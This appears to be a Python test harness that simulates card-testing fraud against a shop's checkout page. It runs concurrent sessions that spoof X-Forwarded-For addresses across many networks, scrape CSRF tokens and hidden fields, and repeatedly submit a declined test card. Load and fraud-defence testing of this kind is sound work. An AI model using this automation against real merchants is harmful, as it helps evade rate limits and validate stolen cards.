"""People who try stolen cards, over HTTP: each in a visit of their own, behind an address of many."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor

import requests
from shopper import ADDRESS, DECLINED_CARD, JANE, PATIENCE

HANDS = 16  # visits at a time
PER_NETWORK = 5  # addresses in one /24
TYPED = {**JANE, **ADDRESS, **DECLINED_CARD, "billShipSame": "y"}
HIDDEN = re.compile(r'name="(csrf_token|attempt|offer|shipping)"[^>]*?value="([^"]*)"')
RADIO = re.compile(r'<input[^>]*name="(offer|shipping)"[^>]*>')
VALUE = re.compile(r'value="([^"]*)"')


def address(number: int) -> str:
    """The number-th public address, a few in each network."""
    network, host = divmod(number, PER_NETWORK)
    return f"93.{network // 250}.{network % 250}.{host + 1}"


def attack(url: str, *, visits: int, addresses: int, presses: int) -> Counter[int]:
    """How often each status was answered to a pay button that was pressed with a stolen card."""
    with ThreadPoolExecutor(HANDS) as hands:
        told = hands.map(lambda number: _presses(url, address(number % addresses), presses), range(visits))
        return sum(told, Counter())


def _presses(url: str, ip: str, presses: int) -> Counter[int]:
    with requests.Session() as browser:
        browser.trust_env = False
        browser.headers.update({"User-Agent": "Mozilla/5.0 (a carder)", "X-Forwarded-For": ip})
        page = browser.get(f"{url}/checkout", timeout=PATIENCE).text
        statuses: Counter[int] = Counter()
        for _ in range(presses):
            form = {**_first(RADIO.finditer(page)), **dict(HIDDEN.findall(page)), **TYPED}
            answer = browser.post(f"{url}/checkout", data=form, allow_redirects=False, timeout=PATIENCE)
            statuses[answer.status_code] += 1
            page = answer.text if "csrf_token" in answer.text else page
        return statuses


def _first(radios: Iterable[re.Match[str]]) -> dict[str, str]:
    """The first choice of each kind."""
    found: dict[str, str] = {}
    for radio in radios:
        if value := VALUE.search(radio[0]):
            found.setdefault(radio[1], value[1])
    return found
